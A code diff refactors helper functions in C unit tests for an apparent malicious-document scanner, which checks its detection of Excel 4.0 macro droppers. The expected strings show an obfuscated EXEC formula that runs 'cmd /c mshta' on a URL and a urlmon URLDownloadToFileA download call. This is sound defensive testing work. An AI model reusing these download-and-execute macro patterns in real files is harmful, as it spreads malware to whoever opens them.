@@ -283,24 +283,6 @@ static void xls_chain(eg_buf f[6])
     eg_fx_ptg_op(&f[5], 0x08);
 }
 
-static bool finding_with(const eg_report *r, const char *rule, const char *text)
-{
-    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
-        const eg_finding *f = eg_report_finding(r, i);
-        if (!strcmp(eg_rule_get(f->rule)->id, rule) && f->evidence && strstr(f->evidence, text))
-            return true;
-    }
-    return false;
-}
-
-static bool has_ioc(const eg_report *r, const char *v)
-{
-    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
-        if (strstr(eg_report_ioc(r, i)->value, v))
-            return true;
-    return false;
-}
-
 static bool has_rule_prefix(const eg_report *r, const char *prefix)
 {
     for (size_t i = 0; i < eg_report_finding_count(r); i++)
@@ -348,12 +330,13 @@ static void test_xls_resolved(void **state)
     assert_non_null(strstr(x, "Macro1!B3: \"" URL_AT "\"\n"));
     assert_non_null(strstr(x, "Macro1!A3: =FORMULA(CHAR(61)&\"EX\"&\"EC(\"\"c\"&CHAR(109)&\"d /c "
                               "msh\"&\"ta \"&u_rl&\"\"\")\",$A$5)\n"));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "name fnx = URLDownloadToFileA"));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A5 argument: " CMD));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "CALL(\"urlmon\",\"URLDownloadToFileA\""));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "name fnx = URLDownloadToFileA"));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A5 argument: " CMD));
+    assert_true(
+        eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "CALL(\"urlmon\",\"URLDownloadToFileA\""));
     /* only the resolved strings name the download and the URL */
-    assert_true(finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
-    assert_true(has_ioc(r, URL));
+    assert_true(eg_fx_finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
+    assert_true(eg_fx_has_ioc(r, URL));
     assert_true(has_rule_prefix(r, "CMD."));
     assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
@@ -442,10 +425,10 @@ static void test_xlsm_resolved(void **state)
     assert_null(strstr(x, "Sheet1!C1: ="));                 /* worksheet formulas are not macros */
     assert_non_null(strstr(x, "Doc2!B2: \"ToFile\"\n"));
     assert_non_null(strstr(x, "Doc2!C4: 42\n"));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "name fn = URLDownloadToFileA"));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "Doc2!A5 argument: " CMD));
-    assert_true(finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
-    assert_true(has_ioc(r, URL));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "name fn = URLDownloadToFileA"));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Doc2!A5 argument: " CMD));
+    assert_true(eg_fx_finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
+    assert_true(eg_fx_has_ioc(r, URL));
     assert_true(eg_report_has_rule(r, "XLM.VERY_HIDDEN_SHEET"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
     eg_report_free(r);
@@ -559,8 +542,8 @@ static void test_xlsb_resolved(void **state)
     assert_non_null(strstr(eg_fx_captured(EG_T_XLM), "Macro1!B1: \"md /c mshta " URL "\"\n"));
     assert_non_null(strstr(eg_fx_captured(EG_T_XLM), "Sheet1!C1: \"cached text\"\n"));
     assert_null(strstr(eg_fx_captured(EG_T_XLM), "Sheet1!C1: ="));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 <- =EXEC(\"" CMD "\")"));
-    assert_true(finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 argument: " CMD));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 <- =EXEC(\"" CMD "\")"));
+    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 argument: " CMD));
     assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
     assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
     eg_report_free(r);
